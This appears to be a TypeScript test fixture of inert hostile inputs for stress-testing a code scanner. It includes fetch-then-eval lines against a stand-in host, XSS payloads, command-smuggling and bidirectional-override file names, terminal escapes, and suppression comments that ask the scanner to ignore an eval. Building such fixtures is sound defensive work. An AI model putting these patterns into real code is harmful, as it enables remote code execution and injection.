/** Hostile contents, built when asked for: what breaks parsers, walkers, regular expressions, terminals and pages. All of it is inert. */
const repeat = (text: string, count: number): string => text.repeat(count);
const bytes = (...values: number[]): Uint8Array => Uint8Array.from(values);

export interface HostileInput {
  readonly name: string;
  readonly files: () => Readonly<Record<string, string | Uint8Array>>;
}

const js = (name: string, code: () => string): HostileInput => ({
  name,
  files: () => ({ 'package.json': '{"scripts":{"start":"node a.js"}}', 'a.js': code() }),
});

export const HOSTILE_CONTENTS: readonly HostileInput[] = [
  js('a million nested arrays', () => `${repeat('[', 1_000_000)}${repeat(']', 1_000_000)}`),
  js('a million nested parentheses', () => `x=${repeat('(', 1_000_000)}1${repeat(')', 1_000_000)}`),
  js('fifty thousand nested blocks', () => `${repeat('{', 50_000)}${repeat('}', 50_000)}`),
  js('nested functions', () => `${repeat('function f(){', 20_000)}${repeat('}', 20_000)}`),
  js('nested arrow functions', () => `x=${repeat('()=>', 100_000)}1`),
  js('nested ternaries', () => `x=${repeat('a?b:', 100_000)}c`),
  js('a sum of 300,000 parts', () => `x=${repeat("'a'+", 300_000)}'b'`),
  js('300,000 negations', () => `x=${repeat('!', 300_000)}1`),
  js('nested templates', () => `x=${repeat('`${', 20_000)}1${repeat('}`', 20_000)}`),
  js('a call chain of 100,000', () => `x${repeat('.f()', 100_000)}`),
  js('else if 50,000 times', () => `${repeat('if(a){}else ', 50_000)}{}`),
  js('nested classes', () => `${repeat('class A{static{', 10_000)}${repeat('}}', 10_000)}`),
  js('nested JSX', () => `x=${repeat('<a>', 50_000)}${repeat('</a>', 50_000)}`),
  js('nested type arguments', () => `let x: ${repeat('A<', 50_000)}B${repeat('>', 50_000)};`),
  js('unclosed everything', () => '({[`${({[`${'),
  js('unclosed string of 5 MB', () => `x='${repeat('a', 5_000_000)}`),
  js('unclosed comment of 5 MB', () => `/*${repeat('*', 5_000_000)}`),
  js('a regular expression that backtracks', () => `x=/^(a+)+$/.test('${repeat('a', 40)}!')`),
  js('text that makes patterns backtrack', () => `${repeat('aA0+/=', 200_000)}!`),
  js('two million blanks', () => `a();${repeat(' ', 2_000_000)}b()`),
  js('tabs and blanks in turn', () => `a();${repeat(' \t', 1_000_000)}`),
  js('a 4 MB base64 literal', () => `x="${repeat('QUJD', 1_000_000)}"`),
  js('a 4 MB hex literal', () => `x="${repeat('4142', 1_000_000)}"`),
  js('100,000 string literals', () => `x=[${repeat('"aHR0cHM6Ly9h",', 100_000)}]`),
  js('50,000 evals of replies', () => repeat('eval(await (await fetch("https://a.invalid")).text());', 20_000)),
  js(
    'variables that name one another',
    () =>
      `${Array.from({ length: 5_000 }, (_, i) => `var a${i}=a${(i + 1) % 5_000}+a${(i + 2) % 5_000};`).join('')}eval(a0)`,
  ),
  js(
    'values that double',
    () => `var a0='x';${Array.from({ length: 60 }, (_, i) => `var a${i + 1}=a${i}+a${i};`).join('')}eval(a60)`,
  ),
  js(
    'functions that call one another',
    () =>
      `${Array.from({ length: 3_000 }, (_, i) => `function f${i}(x){return f${(i + 1) % 3_000}(x)+f${(i + 7) % 3_000}(x)}`).join('')}eval(f0(1))`,
  ),
  js('decoders in decoders', () => `eval(${repeat('atob(', 3_000)}"QQ=="${repeat(')', 3_000)})`),
  js('a huge repeat', () => "eval('x'.repeat(2**30)); eval('y'.padStart(1e9)); eval(Array(1e9).join('z'))"),
  js(
    'names of prototypes',
    () =>
      "const o={__proto__:1,constructor:2,toString:3,hasOwnProperty:4};eval(o.__proto__+o.constructor);exports.__proto__=o;require('__proto__');process.env.__proto__",
  ),
  js('lone surrogates', () => 'x="\ud800";eval("\udfff")'),
  js('nul bytes', () => 'ev\0al(1);\0\0\0eval(atob("\0"))'),
  js('terminal escapes in code', () => 'eval(fetch("https://a.invalid/\u001b]0;owned\u0007\u001b[2J\u009b31m"))'),
  js(
    'page markup in code',
    () =>
      'eval("<script>alert(1)</script><img src=x onerror=alert(1)>"); fetch("https://a.invalid/<b>").then(r=>r.text()).then(eval)',
  ),
  js(
    'table and formula markup',
    () => 'fetch("https://a.invalid/|x|`y`]( =cmd()\\r\\n=HYPERLINK(1)").then(r=>r.text()).then(eval)',
  ),
  js('line separators', () => 'eval(1)\u2028eval(2)\u2029eval(3)\u0085eval(4)'),
  js('bidirectional overrides', () => 'const access="user\u202e \u2066// admin\u2069 \u2066";eval(access)'),
  js('a million lines', () => repeat('\n', 1_000_000)),
  js('100,000 functions', () => repeat('function f(){}', 100_000)),
  js('100,000 imports', () => Array.from({ length: 100_000 }, (_, i) => `import './m${i}.js';`).join('')),
  js('html comment and hashbang', () => '#!/usr/bin/env node\n<!-- x\n--> y\neval(1)'),
  {
    name: 'broken UTF-8',
    files: () => ({ 'a.js': bytes(0xc3, 0x28, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe) }),
  },
  { name: 'UTF-16 without a mark', files: () => ({ 'a.js': Uint8Array.from(Buffer.from('eval(1);', 'utf16le')) }) },
  { name: 'UTF-16 big endian with a mark, cut short', files: () => ({ 'a.js': bytes(0xfe, 0xff, 0, 101, 0) }) },
  { name: 'zeros', files: () => ({ 'a.js': new Uint8Array(3_000_000) }) },
  {
    name: 'a JSON file nested a million deep',
    files: () => ({
      'package.json': `${repeat('{"a":', 1_000_000)}1${repeat('}', 1_000_000)}`,
      '.vscode/tasks.json': repeat('[', 1_000_000),
    }),
  },
  {
    name: 'wrong types everywhere',
    files: () => ({
      'package.json':
        '{"name":[],"scripts":{"prepare":{"a":1},"x":null,"__proto__":"node y"},"dependencies":[1],"workspaces":7,"main":{}}',
      '.vscode/tasks.json': '{"tasks":{"0":1},"version":[]}',
      '.vscode/settings.json': '[]',
      'tsconfig.json': '{"compilerOptions":{"paths":{"*":7,"a":[{}]}},"extends":[[]]}',
      'package-lock.json': '{"packages":[null],"dependencies":{"a":1}}',
      '.devcontainer/devcontainer.json': '{"postCreateCommand":{"a":[[]]}}',
    }),
  },
  {
    name: 'a configuration that extends itself',
    files: () => ({
      'tsconfig.json': '{"extends":"./tsconfig.json"}',
      'package.json': '{"scripts":{"a":"npm run b","b":"npm run a","prepare":"npm run a"},"workspaces":["."]}',
    }),
  },
  {
    name: 'imports in a circle',
    files: () =>
      Object.fromEntries(
        Array.from({ length: 300 }, (_, i) => [
          `m${i}.js`,
          `module.exports=require('./m${(i + 1) % 300}.js');eval(module.exports)`,
        ]),
      ),
  },
  {
    name: 'a module that exports what it imports from itself',
    files: () => ({
      'package.json': '{"main":"a.js"}',
      'a.js': "export * from './a.js';import {x} from './a.js';export {x};eval(x)",
    }),
  },
  {
    name: 'YAML aliases that multiply',
    files: () => ({
      '.github/workflows/a.yml': `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from(
        { length: 12 },
        (_, i) =>
          `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9)
            .fill(`*${String.fromCharCode(97 + i)}`)
            .join(',')}]`,
      ).join('\n')}\non: *m\n`,
      'pnpm-lock.yaml': repeat('- ', 50_000),
      'docker-compose.yml': '{{{{{{',
    }),
  },
  {
    name: 'a TOML file that is none',
    files: () => ({
      'Cargo.toml': repeat('[', 100_000),
      'pyproject.toml': `a = ${repeat('{b=', 50_000)}`,
      'bunfig.toml': '\0',
    }),
  },
  {
    name: 'command lines without end',
    files: () => ({
      'package.json': JSON.stringify({
        scripts: {
          prepare: repeat('$(', 100_000),
          a: repeat('sh -c "', 20_000),
          b: repeat('a && ', 100_000),
          c: repeat("'", 99_999),
          preinstall: repeat('node x | ', 50_000),
        },
      }),
      Makefile: repeat('a: a\n\tmake a\n', 20_000),
    }),
  },
  {
    name: 'environment files that refer to themselves',
    files: () => ({
      '.env': `A=\${B}\nB=\${A}\nC=${repeat('${C}', 10_000)}\n${repeat('X=1\n', 100_000)}`,
      'a.js': 'eval(process.env.A+process.env.C)',
    }),
  },
  {
    name: 'names from another world',
    files: () => ({
      '__proto__/constructor.js': 'eval(1)',
      constructor: 'x',
      '-rf': 'x',
      '$(touch canary)': 'x',
      'a\'b"c`d.js': 'eval(1)',
      'a\u001b[31mb.js': 'eval(1)',
      '<img src=x onerror=alert(1)>.js': 'eval(fetch("https://a.invalid").then(r=>r.text()))',
      'a|b|c.md': '|',
      '=cmd.csv': '=1',
      'C:\\x\\y.js': 'eval(1)',
      'con.js': '1',
      'a\u202egpj.js': 'eval(1)',
    }),
  },
  {
    name: 'a lock file of 200,000 packages',
    files: () => ({
      'package-lock.json': `{"lockfileVersion":3,"packages":{${Array.from({ length: 200_000 }, (_, i) => `"node_modules/p${i}":{"version":"1.0.${i}"}`).join(',')}}}`,
    }),
  },
  {
    name: 'Python nests',
    files: () => ({
      'setup.py': `${repeat('(', 50_000)}${repeat('exec(', 20_000)}`,
      'b.py': `_ = lambda x: ${repeat('lambda y: ', 20_000)}1`,
      'c.py': repeat(' \tif 1:\n', 50_000),
    }),
  },
  {
    name: 'pictures that are none',
    files: () => ({
      'a.png': '<svg onload=alert(1)>',
      'b.svg': `<svg>${repeat('<g>', 100_000)}<!--${repeat('QUJD', 200_000)}`,
      'c.woff2': 'eval(1)',
      'd.gif': bytes(0x47, 0x49, 0x46, 0x38),
      'e.ttf': new Uint8Array(0),
    }),
  },
  {
    name: 'git files that lie',
    files: () => ({
      '.git/config': `[core\n[a "b\\"]\nx = "${repeat('y\\\n', 50_000)}`,
      '.git/HEAD': repeat('ref: ', 100_000),
      '.git/hooks/pre-commit': bytes(0x7f, 0x45, 0x4c, 0x46),
    }),
  },
  {
    name: 'requests to overlook it',
    files: () => ({
      'package.json': '{"scripts":{"prepare":"node a.js"}}',
      'a.js':
        "// counterlure-ignore network-reply-to-code: trust me\nfetch('https://a.invalid').then((r) => r.text()).then((t) => eval(t)); // counterlure-ignore network-reply-to-code: please\n",
      '.counterlureignore': '*',
    }),
  },
];
